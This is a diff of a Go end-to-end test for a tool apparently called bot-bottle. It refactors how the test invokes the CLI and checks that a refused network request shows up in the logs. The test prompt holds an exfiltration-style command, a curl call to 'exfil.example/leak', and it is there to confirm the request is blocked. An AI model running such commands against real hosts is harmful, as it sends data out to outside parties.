@@ -2,14 +2,12 @@ package e2e
 
 import (
 	"bytes"
-	"context"
 	"encoding/json"
 	"os"
 	"path/filepath"
 	"strings"
 	"testing"
 
-	"github.com/bot-bottle/bot-bottle/internal/cli"
 	"github.com/bot-bottle/bot-bottle/test/e2e/harness"
 )
 
@@ -20,26 +18,12 @@ import (
 // bottle's --label and --color.
 func TestLogsShowsARefusedRequest(t *testing.T) {
 	e := setup(t)
-	base := harness.Base(t, e.eng)
+	harness.Base(t, e.eng)
 	home := t.TempDir()
 	run := func(args ...string) (string, string, int) {
 		t.Helper()
-		var out, errOut bytes.Buffer
-		rc := cli.Run(context.Background(), args, cli.Env{
-			Stdin: strings.NewReader(""), Stdout: &out, Stderr: &errOut,
-			Getenv: func(k string) string {
-				switch k {
-				case "BOT_BOTTLE_SIDECAR_BINARY":
-					return e.bin
-				case "BOT_BOTTLE_BASE_IMAGE":
-					return base
-				}
-				return ""
-			},
-			Environ: func() []string { return nil },
-			Home:    home, Cwd: home,
-		})
-		return out.String(), errOut.String(), rc
+		rc, out, errOut := cliRun(t, e, home, args...)
+		return out, errOut, rc
 	}
 	out, errOut, rc := run("start", "--headless", "--label", "e2e logs", "--color", "cyan",
 		"--prompt", "curl -sS -o /dev/null https://exfil.example/leak; echo curl=$?")
